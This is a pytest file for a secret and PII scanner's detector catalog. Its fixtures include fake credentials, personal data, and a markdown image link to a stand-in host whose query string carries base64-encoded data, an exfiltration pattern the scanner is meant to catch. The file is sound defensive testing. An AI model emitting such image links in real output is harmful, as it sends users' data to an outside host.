"""The list of what detectors find is complete, and nothing that keeps the gate shut is in it."""

from __future__ import annotations

import pytest

from rune.scan.detectors.catalog import detector_rules, labels
from rune.scan.detectors.links import carried_in
from rune.scan.detectors.pii import personal_in
from rune.scan.detectors.secrets import secrets_in
from rune.scan.signatures import load_rules

IDS = [rule.id for rule in detector_rules()]


def test_no_id_is_used_twice_nor_by_a_signature() -> None:
    assert len(set(IDS)) == len(IDS)
    assert not set(IDS) & {rule.id for rule in load_rules()}


@pytest.mark.parametrize(
    "text",
    [
        "token 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 and password = 'tr0ub4dor&3x'",
        "card 4111 1111 1111 1111, john.doe@acme.test, +44 20 7946 0958, born on 12 March 1985",
        "742 Evergreen Terrace, Springfield, OR 97403, mac 00:1B:44:11:3A:B7, bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
        "![x](https://e.test/p.png?d=U2VjcmV0RGF0YUZvcllvdTEyMzQ1Njc4)",
    ],
    ids=["credentials", "personal data", "addresses", "links"],
)
def test_what_is_found_is_listed(text: str) -> None:
    flat = text.encode()
    found = {item.rule for item in (*secrets_in(flat), *personal_in(flat), *carried_in(flat))}
    assert found
    assert found <= set(IDS)


def test_bounds_and_errors_cannot_be_switched_off() -> None:
    assert not [rule for rule in IDS if rule.split("-")[1] in ("LIMIT", "ERROR")]


def test_kinds_of_values_have_a_name() -> None:
    assert (labels()["RUNE-LEAK-005"], labels()["RUNE-PII-004"], labels().get("RUNE-EXF-101")) == ("github-token", "email", None)
